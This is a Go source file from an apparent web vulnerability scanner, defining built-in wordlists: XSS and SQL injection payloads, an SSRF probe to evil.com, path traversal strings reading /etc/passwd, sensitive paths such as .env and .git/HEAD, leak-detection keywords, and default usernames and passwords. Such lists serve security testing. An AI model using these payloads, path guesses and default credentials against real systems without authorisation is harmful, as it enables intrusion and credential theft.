/*
Author: KleaSCM
Email: KleaSCM@gmail.com
File: builtin.go
Description: Built-in lists used when no wordlist file is supplied and --builtin is set.
*/

package wordlist

import "fmt"

// Built-in list names
const (
	Vectors    = "vectors"
	Keywords   = "keywords"
	GuessPaths = "paths"
	Usernames  = "usernames"
	Passwords  = "passwords"
)

var builtin = map[string][]string{
	Vectors: {
		// XSS
		"<script>alert(1)</script>",
		"\"'><img src=x onerror=alert(2)>",
		"<svg/onload=alert(3)>",
		// SQLi
		"' OR '1'='1;--",
		"admin' --",
		"' OR 1=1--",
		// SSRF / traversal
		"http://evil.com",
		"file:///etc/passwd",
		"../../../../etc/passwd",
		// boundaries
		"0",
		"-1",
		"999999999",
	},
	Keywords: {
		"syntax error",
		"sql syntax",
		"stack trace",
		"exception",
		"root:x:0:0",
		"password",
		"ssn",
		"api_key",
		"secret",
	},
	GuessPaths: {
		"admin",
		"admin.php",
		"login",
		"robots.txt",
		"backup",
		".git/HEAD",
		".env",
		"config.php",
		"phpinfo.php",
		"server-status",
	},
	Usernames: {"admin", "root", "user", "guest", "test"},
	Passwords: {"password", "admin", "123456", "letmein", "guest"},
}

// Builtin returns a copy of the named built-in list
func Builtin(name string) ([]string, error) {
	list, ok := builtin[name]
	if !ok {
		return nil, fmt.Errorf("unknown built-in list: %s", name)
	}
	return append([]string(nil), list...), nil
}
